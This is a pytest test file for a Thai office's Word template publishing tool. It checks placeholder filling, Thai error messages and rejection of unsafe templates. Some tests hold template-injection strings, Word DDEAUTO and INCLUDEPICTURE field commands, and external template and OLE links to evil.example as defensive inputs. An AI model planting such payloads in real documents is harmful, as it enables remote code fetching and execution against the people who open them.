"""An office's own Word template: its look is kept, and what is wrong with it is told in Thai, all at once."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml.ns import qn
from docx.oxml.parser import OxmlElement
from docx.shared import Mm, Pt

from ita_site.ground.problems import InvalidData
from ita_site.publishing.documents.word import as_docx
from ita_site.publishing.documents.word.field_list import FIELDS, table_of_fields
from ita_site.publishing.documents.word.starting_template import starting_template
from ita_site.publishing.documents.word.style_sheet import NAMESPACE
from tests.helpers import ROOT, word_files
from tests.helpers.paper_samples import MARK, paper

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from docx.document import Document


def told(path: Path) -> dict[str, list[str]]:
    """Return what is told of a template: messages by their codes."""
    with pytest.raises(InvalidData) as raised:
        as_docx(paper(), path)
    found: dict[str, list[str]] = {}
    for each in raised.value.problems:
        assert each.position.path == f"{path.parent.name}/{path.name}"
        assert re.search("[ก-ฮ]", each.message)
        found.setdefault(each.code, []).append(each.message)
    return found


def test_a_template_keeps_its_look_and_gets_the_paper(tmp_path: Path) -> None:
    def letterhead(document: Document) -> None:
        document.sections[0].header.paragraphs[0].text = "เทศบาลของเรา: {{ title }}"
        document.sections[0].left_margin = Mm(35)
        document.styles["Heading 1"].font.size = Pt(22)
        document.styles["Heading 1"].element.set(qn("w:styleId"), "1")

    own = word_files.template(
        tmp_path / "documents/report.docx",
        "{%p if memorandum %}",
        "ที่ {{ number }} ลงวันที่ {{date}} เรื่อง {{ subject }}",
        "{%p endif %}",
        "{{ emblem }} เรียน {{ to }}",
        "{{ memo_text }}",
        "{{ memo_signature }}",
        "{{ endorsements }}",
        "{{ body }}",
        "{{ notes }}",
        "{{ qr }} {{ agency }} {{ year }} {{ division }} {{ address }} {{ digest }}",
        change=letterhead,
    )
    document = word_files.opened(as_docx(paper(landscape=False), own, MARK))
    lines = list(word_files.lines(document.element))
    assert lines[0] == f"ที่ นม ๗๒๐๐๑/๑๒๓ ลงวันที่ ๑๕ มีนาคม ๒๕๖๙ เรื่อง {paper().memorandum.subject}"  # type: ignore[union-attr]
    assert lines[1] == "เรียน นายกเทศมนตรีตำบลตัวอย่าง"
    assert lines[2] == "เรื่องเดิม"
    assert lines[-1] == f"เทศบาลตำบลตัวอย่าง ๒๕๖๙ {paper().memorandum.division} {MARK.url} {MARK.digest}"  # type: ignore[union-attr]
    assert lines[-2].endswith("แก้คำผิด “เผยแพร่”")
    assert lines.index("ปลัดเทศบาลตำบลตัวอย่าง") < lines.index(paper().title)
    assert document.sections[0].header.paragraphs[0].text == f"เทศบาลของเรา: {paper().title}"
    assert document.sections[0].left_margin is not None
    assert round(document.sections[0].left_margin.mm) == 35
    heading = next(each for each in document.paragraphs if each.text == "บทนำ")
    assert heading.style is not None
    assert (heading.style.name, heading.style.font.size) == ("Heading 1", Pt(22))
    known = {each.get(qn("w:styleId")) for each in document.styles.element}
    used = {
        each.get(qn("w:val"))
        for tag in ("pStyle", "rStyle", "tblStyle")
        for each in document.element.iter(qn(f"w:{tag}"))
    }
    assert used <= known
    assert len(list(document.element.iter(qn("w:drawing")))) == 2
    assert not re.search("[\ue000-\uf8ff]|[{}]", "".join(lines))


def test_what_a_paper_has_not_leaves_no_line(tmp_path: Path) -> None:
    """Nor does a condition on it hold."""
    own = word_files.template(
        tmp_path / "a.docx",
        "{%p if memorandum %}",
        "บันทึก",
        "{%p endif %}",
        "{{ memo_text }}",
        "{{ body }}",
        "{{ notes }}",
    )
    bare = replace(paper(), memorandum=None, blocks=())
    assert list(word_files.lines(word_files.opened(as_docx(bare, own)).element)) == [paper().title, paper().agency]
    assert len(word_files.opened(as_docx(bare, own)).paragraphs) == 2


def test_the_program_s_own_template_is_one_that_an_office_may_start_from(tmp_path: Path) -> None:
    own = tmp_path / "default.docx"
    own.write_bytes(starting_template())
    assert as_docx(paper(), own, MARK) == as_docx(paper(), None, MARK)


def test_every_field_may_be_used_and_stands_in_the_list(tmp_path: Path) -> None:
    own = word_files.template(tmp_path / "a.docx", *(f"{{{{ {field.name} }}}}" for field in FIELDS))
    assert "None" not in "".join(word_files.lines(word_files.opened(as_docx(paper(), own, MARK)).element))
    assert table_of_fields() in (ROOT / "README.md").read_text(encoding="utf-8")


def test_every_wrong_field_is_told_by_name_with_those_that_may_be_used(tmp_path: Path) -> None:
    def foot(document: Document) -> None:
        document.sections[0].footer.paragraphs[0].text = "{{ หน่วยงาน }} {{ body }}"

    own = word_files.template(
        tmp_path / "documents/plan.docx", "{{ titel }}", "{{ body }}", "{{ agency_name }}", change=foot
    )
    messages = told(own)["unknown-field"]
    for wrong in ("titel", "agency_name", "หน่วยงาน"):
        [message] = [each for each in messages if f"{{{{ {wrong} }}}}" in each]
        assert all(field.name in message for field in FIELDS)
    assert [each for each in messages if "{{ body }}" in each and "หัวหรือท้ายกระดาษ" in each]


@pytest.mark.parametrize(("typed", "meant"), [("titel", "title"), ("Agency", "agency"), ("sub_ject", "subject")])
def test_a_field_that_is_nearly_one_is_told_with_the_one_that_is_meant(tmp_path: Path, typed: str, meant: str) -> None:
    own = word_files.template(tmp_path / "documents/plan.docx", f"{{{{ {typed} }}}}", "{{ body }}")
    (message,) = told(own)["unknown-field"]
    assert message.endswith(f"หมายถึง {{{{ {meant} }}}} หรือไม่")


@pytest.mark.parametrize(
    "line", ["{{ title }", "{{ }}", "{% for a in b %}", "{%p if memorandum %}", "{%tr if title %}"]
)
def test_what_is_no_field_is_told_without_the_words_of_the_engine(tmp_path: Path, line: str) -> None:
    (message,) = told(word_files.template(tmp_path / "documents/plan.docx", line, "{{ body }}"))["template-syntax"]
    assert not re.search("(?i)expect|encounter|jinja", message)


def test_a_field_that_word_has_cut_into_pieces_is_one_field(tmp_path: Path) -> None:
    def cut(document: Document) -> None:
        line = document.paragraphs[0]
        for piece in ("{", "{ ti", "tle", " }", "}"):
            line.add_run(piece).bold = piece == "tle"

    own = word_files.template(tmp_path / "a.docx", "", "{{ body }}", change=cut)
    assert word_files.opened(as_docx(paper(), own)).paragraphs[0].text == paper().title


@pytest.mark.parametrize(
    "written",
    [
        "{{ title",
        "{% if %}",
        "{{ title }} {% endif %}",
        "{% for x in range(10) %}{{ x }}{% endfor %}",
        "{{ title|upper }}",
        "{{ title * 9999999 }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ title.__class__ }}",
        "{{ cycler('a') }}",
        "{% set a = 1 %}",
        "{% include 'x' %}",
        "{% import 'os' as os %}",
        "{% macro a() %}{% endmacro %}",
        "{{ 7 * 7 }}",
        "{{ '' }}",
        "{{ title[0] }}",
        "{{ title ~ title }}",
    ],
)
def test_nothing_but_fields_and_conditions_is_taken(tmp_path: Path, written: str) -> None:
    own = word_files.template(tmp_path / "documents/default.docx", written, "{{ body }}")
    assert {"template-syntax", "unknown-field", "template-without-content"} & told(own).keys()


def test_what_a_template_says_of_itself_is_no_template(tmp_path: Path) -> None:
    def properties(document: Document) -> None:
        document.core_properties.title = document.core_properties.comments = "{{ 7 * 7 }}{% for %}"

    own = word_files.template(tmp_path / "a.docx", "{{ body }}", change=properties)
    found = word_files.opened(as_docx(paper(), own)).core_properties
    assert (found.title, found.comments) == (paper().title, "")


def test_footnotes_are_read_as_the_rest_is(tmp_path: Path) -> None:
    def note(document: Document) -> None:
        kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
        said = f"<w:footnotes xmlns:w='{NAMESPACE}'><w:p><w:r><w:t>{{{{ titel }}}}</w:t></w:r></w:p></w:footnotes>"
        part = Part(PackURI("/word/footnotes.xml"), kind, said.encode(), document.part.package)
        document.part.relate_to(part, RELATIONSHIP_TYPE.FOOTNOTES)

    own = word_files.template(tmp_path / "documents/default.docx", "{{ body }}", change=note)
    assert "titel" in told(own)["unknown-field"][0]


@pytest.mark.parametrize(
    ("lines", "found"),
    [
        ((), 0),
        (("{{ body }}", "{{ body }}"), 2),
        (("{{p body }}",), 0),
        (("{{r body }}",), 0),
        (("{%p if memorandum %}", "{{ body }}", "{%p endif %}"), 0),
        (("{%p if not digest %}", "{{ body }}", "{%p endif %}"), 0),
    ],
)
def test_the_content_stands_once_whatever_a_paper_has(tmp_path: Path, lines: tuple[str, ...], found: int) -> None:
    own = word_files.template(tmp_path / "documents/default.docx", "{{ title }}", *lines)
    [message] = told(own)["template-without-content"]
    assert f"พบ {found} แห่ง" in message


@pytest.mark.parametrize("name", ["body", "memorandum", "notes", "memo_text"])
def test_what_is_several_paragraphs_stands_alone(tmp_path: Path, name: str) -> None:
    def in_a_table(document: Document) -> None:
        document.add_table(1, 1).cell(0, 0).text = f"{{{{ {name} }}}}"

    rest = () if name == "body" else ("{{ body }}",)
    beside = word_files.template(tmp_path / "documents/plan.docx", f"ต่อไปนี้ {{{{ {name} }}}}", *rest)
    within = word_files.template(tmp_path / "documents/report.docx", *rest, change=in_a_table)
    for own in (beside, within):
        assert f"{{{{ {name} }}}}" in told(own)["misplaced-field"][0]


@pytest.mark.parametrize(
    "command",
    ['INCLUDEPICTURE "https://evil.example/a.png"', "DDEAUTO c:\\\\cmd.exe", "IncludeText x", "LINK Excel.Sheet"],
)
def test_no_field_of_word_fetches_or_runs_anything(tmp_path: Path, command: str) -> None:
    def pieces(document: Document) -> None:
        for piece in (command[:4], command[4:]):
            text = OxmlElement("w:instrText")
            text.text = piece
            document.paragraphs[0].add_run()._r.append(text)  # noqa: SLF001 - the library writes no fields

    own = word_files.template(tmp_path / "documents/default.docx", "", "{{ body }}", change=pieces)
    assert command.split(maxsplit=1)[0].upper() in told(own)["template-from-elsewhere"][0]

    def simple(document: Document) -> None:
        document.element.body[0].append(
            OxmlElement("w:fldSimple", {qn("w:instr"): f" {command.split(maxsplit=1)[0]} x "})
        )

    assert told(word_files.template(own, "", "{{ body }}", change=simple))["template-from-elsewhere"]
    harmless = word_files.template(tmp_path / "b.docx", "LINK DDE", "{{ body }}")
    assert "LINK DDE" in word_files.lines(word_files.opened(as_docx(paper(), harmless)).element)


def external(kind: str) -> Callable[[Document], None]:
    def change(document: Document) -> None:
        office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        document.part.relate_to("https://evil.example/x.dotm", f"{office}/{kind}", is_external=True)

    return change


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "subDocument"])
def test_nothing_is_fetched_from_elsewhere_but_links_may_lead_there(tmp_path: Path, kind: str) -> None:
    own = word_files.template(tmp_path / "documents/default.docx", "{{ body }}", change=external(kind))
    [message] = told(own)["template-from-elsewhere"]
    assert "https://evil.example/x.dotm" in message
    as_docx(paper(), word_files.template(tmp_path / "b.docx", "{{ body }}", change=external("hyperlink")))


MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin"]
)
def test_a_template_that_could_run_a_program_is_not_opened(tmp_path: Path, name: str) -> None:
    own = word_files.template(tmp_path / "documents/default.docx", "{{ body }}")
    assert list(told(word_files.with_parts(own, {name: b"x"}))) == ["template-with-macros"]


def test_a_template_with_macros_is_one_by_its_type_too(tmp_path: Path) -> None:
    own = word_files.template(tmp_path / "documents/default.docx", "{{ body }}")
    types = word_files.parts(own.read_bytes())["[Content_Types].xml"]
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    word_files.with_parts(own, {"[Content_Types].xml": types.replace(plain, MACROS)})
    assert list(told(own)) == ["template-with-macros"]


@pytest.mark.parametrize(
    "content",
    [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ข้อความ".encode(), b"%PDF-1.7"],
    ids=["empty", "cut", "doc", "text", "pdf"],
)
def test_what_is_no_word_file_is_told(tmp_path: Path, content: bytes) -> None:
    own = tmp_path / "documents/default.docx"
    own.parent.mkdir()
    own.write_bytes(content)
    [message] = told(own)["not-a-docx"]
    assert ".docx" in message


@pytest.mark.parametrize(
    "document",
    [
        b"<w:document",
        b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
        b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>",
        b"<html/>",
    ],
    ids=["cut", "entities", "without a body", "of another kind"],
)
def test_a_word_file_that_is_damaged_is_told(tmp_path: Path, document: bytes) -> None:
    own = word_files.template(tmp_path / "documents/default.docx", "{{ body }}")
    assert told(word_files.with_parts(own, {"word/document.xml": document}))


@pytest.mark.parametrize(
    "part", ["word/styles.xml", "word/_rels/document.xml.rels", "_rels/.rels", "[Content_Types].xml"]
)
def test_so_is_one_whose_other_parts_are(tmp_path: Path, part: str) -> None:
    own = word_files.template(tmp_path / "documents/default.docx", "{{ body }}")
    assert told(word_files.with_parts(own, {part: b"<a"}))


def test_a_template_that_would_unfold_without_end_is_not_opened(tmp_path: Path) -> None:
    own = tmp_path / "documents/default.docx"
    own.parent.mkdir()
    with zipfile.ZipFile(own, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b" " * 60_000_000)
    assert told(own)["not-a-docx"]
    own.write_bytes(b"x" * 5_000_001)
    assert told(own)["template-too-large"]


def test_a_table_of_the_template_without_a_grid_stops_nothing_silently(tmp_path: Path) -> None:
    def odd(document: Document) -> None:
        document.element.body.insert(0, OxmlElement("w:tbl"))

    own = word_files.template(tmp_path / "documents/default.docx", "{{ body }}", change=odd)
    assert told(own)["not-a-docx"]
